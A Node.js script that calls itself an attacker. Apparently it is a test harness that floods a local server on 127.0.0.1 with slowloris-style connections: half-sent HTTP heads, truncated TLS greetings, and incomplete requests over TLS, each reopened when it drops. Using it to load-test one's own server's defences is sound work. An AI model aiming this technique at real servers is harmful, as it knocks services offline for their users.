// An attacker: holds COUNT connections from one loopback address on which a request never comes to its end, each replaced when it is
// hung up, and says every 100 ms how many it holds.     node half_sent.mjs ADDRESS PLAIN_PORT TLS_PORT COUNT
import {connect} from 'node:net';
import {connect as connectTls} from 'node:tls';

const [address, plain, tls, count] = [process.argv[2], ...process.argv.slice(3).map(Number)];
let held = 0;

const kinds = [
  // Half a head.
  (done) => {
    const socket = connect({host: '127.0.0.1', port: plain, localAddress: address}, () => done(socket.write('GET / HTTP/1.1\r\nHost: city.example\r\nX-Slow: ')));
    return socket;
  },
  // Half a greeting of TLS.
  (done) => {
    const socket = connect({host: '127.0.0.1', port: tls, localAddress: address}, () => done(socket.write(Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]))));
    return socket;
  },
  // Half a head within TLS.
  (done) => {
    const options = {host: '127.0.0.1', port: tls, servername: 'city.example', rejectUnauthorized: false, ALPNProtocols: ['http/1.1']};
    const socket = connectTls({...options, socket: connect({host: '127.0.0.1', port: tls, localAddress: address}).on('error', () => {})}, () =>
      done(socket.write('POST /api/v1/bulletins HTTP/1.1\r\nHost: city.example\r\n')),
    );
    return socket;
  },
];

function open(i) {
  let up = false;
  const socket = kinds[i % 50 === 0 ? 2 : i % 2](() => {
    up = true;
    ++held;
  });
  socket.on('error', () => {});
  socket.on('data', () => {});
  socket.on('close', () => {
    if (up) --held;
    setImmediate(open, i);
  });
}

for (let i = 0; i < count; ++i) open(i);
setInterval(() => console.log(held), 100);
